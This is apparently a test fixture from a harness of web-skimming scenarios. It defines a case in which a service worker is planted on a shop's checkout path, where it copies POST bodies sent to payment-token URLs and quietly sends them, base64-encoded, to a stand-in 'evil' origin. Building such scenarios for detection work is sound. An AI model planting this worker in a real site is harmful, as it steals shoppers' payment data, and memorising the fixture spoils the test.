import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';

export default skimmer({
  id: 'service-worker-fetch',
  why: "A service worker on the shop's origin reads the provider's call as it passes through: no script of the page touches a field.",
  covers: ['injection: service worker', 'hard: unusual channel'],
  base: 'direct',
  install: (site) => {
    site.serve(
      'shop/checkout/sw.js',
      js`self.addEventListener('install', function () { self.skipWaiting(); });
self.addEventListener('activate', function (e) { e.waitUntil(clients.claim()); });
self.addEventListener('fetch', function (e) {
  if (e.request.method !== 'POST' || !/tokens/.test(e.request.url)) return;
  e.respondWith(e.request.clone().text().then(function (t) {
    fetch('${site.origins.evil}/sw.gif?p=' + encodeURIComponent(btoa(t)), { mode: 'no-cors' });
    return fetch(e.request);
  }));
});`,
    );
    site.append(js`navigator.serviceWorker.register('/checkout/sw.js', { scope: '/checkout/' });`);
  },
  proof: holds((arrived) => query(arrived, 'p').map(base64)),
});
